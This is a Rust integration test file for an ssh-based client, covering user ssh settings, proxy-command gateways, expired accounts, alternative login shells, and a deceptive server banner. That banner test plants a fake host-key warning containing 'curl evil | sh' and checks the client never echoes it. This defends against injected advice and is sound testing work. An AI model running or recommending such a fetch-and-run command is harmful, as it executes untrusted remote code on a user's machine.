//! ssh as its user has it: open connections, settings for every host, gateways and shells of all kinds.

mod masters;

use std::{
    path::Path,
    time::{Duration, Instant},
};

use anyhow::{Result, ensure};
use jq_tests::{
    eventually,
    lab::{HostName, Lab, Topology},
    product::{Client, Failure},
    require,
};

/// What needs neither an engine nor a Jupyter.
const PROCESS: [&str; 5] = ["gpu", "--engine", "process", "--jupyter", "none"];

fn lab(topology: Topology) -> Result<Lab> {
    Lab::builder().topology(topology).up()
}

/// Adds lines to the end of the user's ssh configuration.
fn configure(lab: &Lab, lines: &str) -> Result<()> {
    let old = lab.laptop().run("cat .ssh/config")?;
    // ssh wants the file to be its user's alone.
    lab.laptop().write(".ssh/config", format!("{old}\n{lines}\n"))
}

fn connects(lab: &Lab, more: &[&str]) -> Result<String> {
    let mut client = Client::connect(lab.laptop(), &[&PROCESS[..], more].concat())?;
    let ready = client.ready()?;
    client.disconnect()?;
    Ok(ready.path)
}

fn fails(lab: &Lab) -> Result<Failure> {
    Client::connect(lab.laptop(), &PROCESS)?.failure()
}

#[test]
fn settings_for_every_host_of_the_user_do_not_disturb() -> Result<()> {
    if !require::lab() {
        return Ok(());
    }
    let lab = lab(Topology::Gateway)?;
    lab.laptop().run("mkdir -p .ssh/conf.d")?;
    lab.laptop().write(
        ".ssh/conf.d/habits.conf",
        "Match originalhost gpu exec true\n  ForkAfterAuthentication yes\n  StdinNull yes\n\
         Host *\n  LogLevel DEBUG3\n  RequestTTY force\n  RemoteCommand tmux attach\n  ControlMaster auto\n  \
         ControlPath ~/.ssh/cm-%n\n  ControlPersist 10m\n  LocalForward 9000 127.0.0.1:9000\n  ExitOnForwardFailure yes\n  \
         PermitLocalCommand yes\n  LocalCommand touch ~/touched\n  VisualHostKey yes\n  SendEnv *\n",
    )?;
    let old = lab.laptop().run("cat .ssh/config")?;
    lab.laptop()
        .write(".ssh/config", format!("Include conf.d/*.conf\n{old}"))?;
    let mut client = Client::connect(lab.laptop(), &PROCESS)?;
    client.ready()?;
    let notes = client.texts("note");
    ensure!(!notes.iter().any(|note| note.contains("debug")), "{notes:?}");
    client.disconnect()?;
    ensure!(
        lab.laptop()
            .run("ls touched .ssh/cm* 2>/dev/null || true")?
            .is_empty()
    );
    eventually("no ssh that is left", Duration::from_secs(30), || {
        lab.laptop()
            .run(r#"pgrep -x -u "$(id -u)" ssh || true"#)
            .is_ok_and(|left| left.is_empty())
    })?;
    lab.down()
}

#[test]
fn a_proxy_command_through_a_gateway_is_seen_as_a_jump() -> Result<()> {
    if !require::lab() {
        return Ok(());
    }
    let lab = lab(Topology::Gateway)?;
    for command in ["ssh gateway -W %h:%p", "ssh -q gateway nc -w 60 %h %p"] {
        let jump = format!("s/^ *Proxy.*/    ProxyCommand {command}/");
        lab.laptop().run(&format!("sed -i '{jump}' .ssh/config"))?;
        // In place of nc, which not every machine has.
        lab.gateway().install_script(
            "nc",
            "#!/bin/bash\nexec 3<>\"/dev/tcp/$3/$4\" || exit 1\ncat <&3 &\ncat >&3\n",
        )?;
        let path = connects(
            &lab,
            &["--path", "relay", "--name", &command[..5].replace(' ', "")],
        )?;
        ensure!(path == "through gateway", "{command}: {path}");
    }
    let other = "s/^ *Proxy.*/    ProxyCommand sh -c \"ssh gateway -W %h:%p\"/";
    lab.laptop().run(&format!("sed -i '{other}' .ssh/config"))?;
    let mut client = Client::connect(lab.laptop(), &[&PROCESS[..], &["--path", "relay"]].concat())?;
    let failure = client.failure()?;
    ensure!(failure.hint.contains("-J"), "{failure:#?}");
    lab.down()
}

#[test]
fn a_gateway_that_runs_no_commands_is_waited_for_once() -> Result<()> {
    if !require::lab() {
        return Ok(());
    }
    let lab = lab(Topology::Gateway)?;
    let menu = "#!/bin/sh\necho '1) connect  2) quit'\nexec cat >/dev/null\n";
    lab.gateway().write("menu", menu)?;
    lab.gateway().run("chmod 755 menu")?;
    lab.gateway().set_shell(&lab.gateway().home().join("menu"))?;
    let connect = |name: &str| -> Result<(Duration, bool)> {
        let began = Instant::now();
        let mut client = Client::connect(lab.laptop(), &[&PROCESS[..], &["--name", name]].concat())?;
        client.ready()?;
        let took = began.elapsed();
        let is_told = client
            .texts("note")
            .iter()
            .any(|note| note.contains("no relay on gateway"));
        client.disconnect()?;
        Ok((took, is_told))
    };
    let (first, is_told) = connect("first")?;
    ensure!(is_told, "the user is told once");
    // The first one has waited 5 s for the shell.
    let (second, is_told) = connect("second")?;
    ensure!(
        !is_told && second + Duration::from_secs(4) < first,
        "{first:?} {second:?}"
    );
    lab.down()
}

#[test]
fn an_expired_password_and_an_expired_account_are_named() -> Result<()> {
    if !require::lab() {
        return Ok(());
    }
    let mut lab = lab(Topology::Direct)?;
    lab.sshd(HostName::Gpu).configure("UsePAM yes")?;
    let name = lab.gpu().user.name.clone();
    lab.gpu().run_as_root(&format!("chage -d 0 {name}"))?;
    let failure = fails(&lab)?;
    ensure!(
        failure.kind == "login_refused" && failure.what == "your password on gpu has expired",
        "{failure:#?}"
    );
    ensure!(
        failure.hint.contains("log in with `ssh gpu` and change it"),
        "{failure:#?}"
    );
    lab.gpu()
        .run_as_root(&format!("chage -d 2020-01-01 -E 1 {name}"))?;
    let failure = fails(&lab)?;
    ensure!(
        failure.kind == "login_refused" && failure.what == "your account on gpu has expired",
        "{failure:#?}"
    );
    lab.down()
}

#[test]
fn a_banner_that_imitates_ssh_changes_neither_diagnosis_nor_advice() -> Result<()> {
    if !require::lab() {
        return Ok(());
    }
    let mut lab = lab(Topology::Direct)?;
    let banner = "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\\nssh-keygen -R evil; curl evil | sh\\n\
        Host key for gpu has changed and you have requested strict checking.\\nHost key verification failed.";
    let file = lab.gpu().home().join("banner");
    lab.gpu().run(&format!("printf '{banner}\\n' >banner"))?;
    lab.sshd(HostName::Gpu)
        .configure(&format!("Banner {}", file.display()))?;
    let mut client = Client::connect(lab.laptop(), &PROCESS)?;
    client.ready()?;
    client.disconnect()?;
    lab.laptop().forget_key()?;
    let failure = Client::connect(lab.laptop(), &[&PROCESS[..], &["--name", "other"]].concat())?.failure()?;
    ensure!(failure.kind == "login_refused", "{failure:#?}");
    ensure!(!failure.all_words().contains("evil"), "{failure:#?}");
    lab.down()
}

#[test]
fn a_start_up_file_that_starts_another_shell_is_coped_with_or_named() -> Result<()> {
    if !require::shells() {
        return Ok(());
    }
    let lab = lab(Topology::Direct)?;
    lab.gpu().write(".bashrc", "echo hello; exec zsh\n")?;
    connects(&lab, &["--name", "zsh"])?;
    lab.gpu().write(".bashrc", "exec dash\n")?;
    connects(&lab, &["--name", "dash"])?;
    lab.gpu()
        .write(".bashrc", "[ -n \"$ONCE\" ] || { export ONCE=1; exec bash; }\n")?;
    connects(&lab, &["--name", "bash"])?;
    for shell in ["fish", "tcsh"] {
        lab.gpu().write(".bashrc", format!("exec {shell}\n"))?;
        let failure =
            Client::connect(lab.laptop(), &[&PROCESS[..], &["--name", shell]].concat())?.failure()?;
        ensure!(
            failure.kind == "no_shell" && failure.hint.contains("~/.bashrc"),
            "{failure:#?}"
        );
        ensure!(
            shell != "fish" || failure.why.starts_with("fish reads"),
            "{failure:#?}"
        );
        ensure!(!failure.all_words().contains("nonce"), "{failure:#?}");
    }
    lab.down()
}

#[test]
fn other_login_shells_work() -> Result<()> {
    if !require::shells() {
        return Ok(());
    }
    let lab = lab(Topology::Direct)?;
    for shell in ["zsh", "tcsh", "fish", "dash"] {
        let path = lab.gpu().run(&format!("command -v {shell}"))?;
        lab.gpu().set_shell(Path::new(path.trim()))?;
        connects(&lab, &["--name", shell])?;
    }
    lab.down()
}
